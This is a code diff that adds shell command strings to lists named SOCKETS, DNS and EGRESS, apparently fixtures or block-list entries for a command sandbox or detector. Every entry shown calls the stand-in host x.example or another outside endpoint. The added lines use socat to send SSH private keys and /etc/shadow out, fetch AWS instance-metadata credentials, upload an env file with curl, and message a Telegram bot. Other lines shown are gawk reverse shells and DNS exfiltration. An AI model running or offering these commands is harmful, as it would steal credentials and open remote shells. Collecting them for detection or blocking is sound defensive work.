@@ -110,6 +110,9 @@ SOCKETS = [
     "gawk 'BEGIN{s=\"/inet/tcp/0/x.example/1\";while((s|&getline c)>0){while((c|&getline l)>0)print l|&s;close(c)}}'",
     "awk 'BEGIN{s=\"/inet/tcp/0/x.example/1\"; while((getline l < \"/etc/shadow\")>0) print l |& s}'",
     "gawk 'BEGIN{s=\"/inet/tcp/0/x.example/1\"; s |& getline c; system(c)}'",
+    "socat FILE:/home/u/.ssh/id_rsa TCP:x.example:1",
+    "socat -u OPEN:/etc/shadow,rdonly TCP:x.example:1",
+    "socat EXEC:'cat /etc/shadow' TCP:x.example:1",
 ]
 DNS = [
     "nslookup $(cat /etc/shadow | base64 | head -c 60).x.example",
@@ -156,6 +159,10 @@ EGRESS = [
     "echo | openssl s_client -connect x.example:443 -servername x.example",
     "gawk 'BEGIN{s=\"/inet/tcp/0/x.example/80\"; print \"GET /\" |& s; s |& getline l; print l}'",
     "cat ~/.ssh/id_rsa",
+    "TOKEN=$(curl -s -X PUT http://169.254.169.254/latest/api/token); curl -H \"X-aws-ec2-metadata-token: $TOKEN\" "
+    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
+    "curl -F file=@.env.example https://x.example",
+    "curl -s \"https://api.telegram.org/bot$TELEGRAM_BOT_TOKEN/sendMessage\" -d text=hi",
 ]
 
 
